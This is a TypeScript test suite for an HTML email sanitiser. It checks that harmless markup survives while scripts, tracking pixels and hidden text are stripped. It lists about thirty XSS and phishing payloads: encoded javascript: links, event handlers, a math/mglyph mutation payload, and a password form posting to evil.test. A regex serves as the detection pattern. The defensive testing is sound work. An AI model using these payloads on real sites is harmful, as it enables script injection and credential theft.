import fc from 'fast-check';
import { ACTIVITY_LIMITS } from '../../shared/activity-limits';
import { sanitiseHtml } from './sanitise-html';

describe('what is harmless stays', () => {
  test('text, lists, tables and links', () => {
    const html = '<h2>Hi</h2><p>Two <b>gates</b></p><ul><li>one</li></ul><table><tr><td colspan="2">x</td></tr></table>';
    expect(sanitiseHtml(html)).toBe(html);
  });

  test('links open apart and say nothing of where they were', () => {
    expect(sanitiseHtml('<a href="https://example.test/a?b=1&amp;c=2" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://example.test/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(sanitiseHtml('<a href="mailto:jana@example.test">x</a>')).toContain('href="mailto:jana@example.test"');
  });

  test('colours, weights and spacing', () => {
    expect(sanitiseHtml('<p style="color:#333; font-weight:bold; padding: 4px 8px">x</p>')).toBe(
      '<p style="color:#333;font-weight:bold;padding:4px 8px">x</p>',
    );
  });

  test('words that look like markup stay words', () => {
    expect(sanitiseHtml('<p>1 &lt; 2 &amp;&amp; &lt;script&gt;</p>')).toBe('<p>1 &lt; 2 &amp;&amp; &lt;script&gt;</p>');
  });
});

describe('what runs, loads, submits or covers goes', () => {
  const hostile: [string, string][] = [
    ['a script', '<script>alert(1)</script>'],
    ['a script in another case, unclosed', '<ScRiPt>alert(1)'],
    ['a style sheet', '<style>body{display:none}</style>'],
    ['an imported style sheet', '<link rel="stylesheet" href="https://evil.test/x.css">'],
    ['a handler', '<p onclick="alert(1)" onmouseover=alert(1)>x</p>'],
    ['a handler behind a slash', '<img/src="x"/onerror=alert(1)>'],
    ['a link that runs', '<a href="javascript:alert(1)">x</a>'],
    ['a link that runs, disguised', '<a href="  jAvA\tscript:alert(1)">x</a>'],
    ['a link that runs, encoded', '<a href="&#106;avascript:alert(1)">x</a>'],
    ['a link with data', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['a picture that runs', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
    ['an SVG', '<svg onload=alert(1)><script>alert(1)</script></svg>'],
    [
      'mathematics that becomes markup',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    ],
    ['a link into the admin panel', '<a href="/admin/logout#evil.test">x</a>'],
    ['a form', '<form action="https://evil.test"><input name="password"><button>Go</button></form>'],
    ['a frame', '<iframe srcdoc="<script>alert(1)</script>" src="https://evil.test"></iframe>'],
    ['an object', '<object data="https://evil.test"></object><embed src="https://evil.test">'],
    ['another base', '<base href="https://evil.test/">'],
    ['a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.test">'],
    ['style that loads', '<p style="background:url(https://evil.test/x)">x</p>'],
    ['style that covers', '<div style="position:fixed;top:0;left:0;z-index:9999;width:9999px">x</div>'],
    ['style that moves away', '<p style="margin:-500px;padding:-9px">x</p>'],
    ['an expression', '<p style="width:expression(alert(1))">x</p>'],
    ['raw text that becomes markup', '<xmp><img src=x onerror=alert(1)></xmp>'],
    ['text in a text area', '<textarea><img src=x onerror=alert(1)></textarea>'],
    ['a comment of Internet Explorer', '<!--[if IE]><script>alert(1)</script><![endif]-->'],
    ['a name that scripts would find', '<a id="location" name="cookie" class="x">x</a>'],
    ['an attribute that breaks out', "<p title='\"><script>alert(1)</script>'>x</p>"],
    ['a background of old', '<table background="https://evil.test/x.png"><tr><td>x</td></tr></table>'],
    ['other sources of a picture', '<img srcset="https://evil.test/x.png 2x"><picture><source srcset="https://evil.test/x"></picture>'],
  ];

  const FORBIDDEN =
    /<(?:script|style|link|meta|base|form|input|button|textarea|iframe|object|embed|svg|math|source|xmp)\b|<[^>]*\son\w+\s*=|javascript:|expression|url\(|position|evil\.test|(?:id|class|name|srcset|background)=/i;

  test.each(hostile)('%s', (_what, html) => {
    expect(sanitiseHtml(html)).not.toMatch(FORBIDDEN);
  });

  test('all of them, nested into each other', () => {
    const parts = hostile.map(([, html]) => html);
    fc.assert(
      fc.property(fc.shuffledSubarray(parts, { minLength: 2 }), fc.integer({ min: 0, max: 60 }), (chosen, cut) => {
        const html = chosen.reduceRight((inner, outer) => outer.slice(0, Math.max(1, outer.length - cut)) + inner, '');
        expect(sanitiseHtml(html)).not.toMatch(/<(?:script|style|iframe|svg|form)\b|<[^>]*\son\w+\s*=\s*["']?alert/i);
      }),
    );
  });

  test('doing it again changes nothing', () => {
    const marked = '<div class="gmail_quote"><img src="https://example.test/x.png"><a href="https://example.test">x</a></div>';
    for (const html of [...hostile.map(([, one]) => one), marked]) {
      const once = sanitiseHtml(html);
      expect(sanitiseHtml(once)).toBe(once);
    }
  });
});

describe('images', () => {
  test('remote ones are kept for when somebody asks, over HTTPS only', () => {
    expect(sanitiseHtml('<img src="https://example.test/logo.png" alt="Logo">')).toBe(
      '<img alt="Logo" data-remote-src="https://example.test/logo.png" />',
    );
    expect(sanitiseHtml('<img src="http://example.test/logo.png"><img src="//example.test/logo.png">')).toBe('');
  });

  test('what stands for a remote one is held to the same', () => {
    expect(sanitiseHtml('<p data-remote-src="https://example.test/x.png">x</p>')).toBe('<p>x</p>');
    expect(sanitiseHtml('<img data-remote-src="javascript:alert(1)">')).toBe('');
  });

  test('those of a pixel are there to tell who reads, and go', () => {
    expect(sanitiseHtml('a<img src="https://example.test/open?id=7" width="1" height="1">b')).toBe('ab');
  });

  test('files of the message and small ones within it stay', () => {
    expect(sanitiseHtml('<img src="attachment:abc123"><img src="cid:logo@example.test">')).toBe(
      '<img src="attachment:abc123" /><img src="cid:logo@example.test" />',
    );
    expect(sanitiseHtml('<img src="data:image/png;base64,iVBORw0KGgo=">')).toContain('src="data:image/png;base64,iVBORw0KGgo="');
  });
});

describe('what is hidden is no part of what was said', () => {
  test.each([
    '<div style="display:none">secret <b>x</b></div>',
    '<span style="color:red; DISPLAY : NONE !important">secret</span>',
    '<p hidden>secret</p>',
    '<span style="font-size:0px">secret</span>',
    '<div style="mso-hide:all">secret</div>',
  ])('%s', (html) => {
    expect(sanitiseHtml(`<p>said</p>${html}`)).toBe('<p>said</p>');
  });
});

describe('what is quoted is marked', () => {
  test.each([
    ['<div class="gmail_quote">On Monday …</div>', 'self'],
    ['<blockquote type="cite">x</blockquote>', 'self'],
    ['<div class="x moz-cite-prefix">x</div>', 'self'],
    ['<div id="divRplyFwdMsg">From: …</div>', 'rest'],
    ['<div id="x_appendonsend"></div>', 'rest'],
  ])('%s', (html, quote) => {
    expect(sanitiseHtml(html)).toContain(`data-quote="${quote}"`);
  });

  test('a plain quotation is not taken for an earlier message', () => {
    expect(sanitiseHtml('<blockquote>As the poet says</blockquote>')).not.toContain('data-quote');
  });
});

describe('size and depth', () => {
  test('tables within tables are cut off where no honest mail is any more', () => {
    const clean = sanitiseHtml(`${'<table><tr><td>'.repeat(300)}x`);
    expect(clean.match(/<table>/g)?.length).toBeLessThan(80);
    expect(clean).toContain('x');
  });

  test('what only a machine would nest that deep is words alone', () => {
    expect(sanitiseHtml(`${'<b>'.repeat(50_000)}x &lt;i>y<script>z`)).toBe('<p>x &lt;i&gt;y z</p>');
  });

  test('what is too long is cut off', () => {
    expect(sanitiseHtml(`<p>${'x'.repeat(3 * ACTIVITY_LIMITS.html)}`).length).toBeLessThanOrEqual(ACTIVITY_LIMITS.html + 10);
  });

  test('anything at all gives text without scripts and handlers', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 400 }), (noise) => {
        expect(sanitiseHtml(noise)).not.toMatch(/<(?:script|style|iframe)/i);
      }),
    );
  });
});
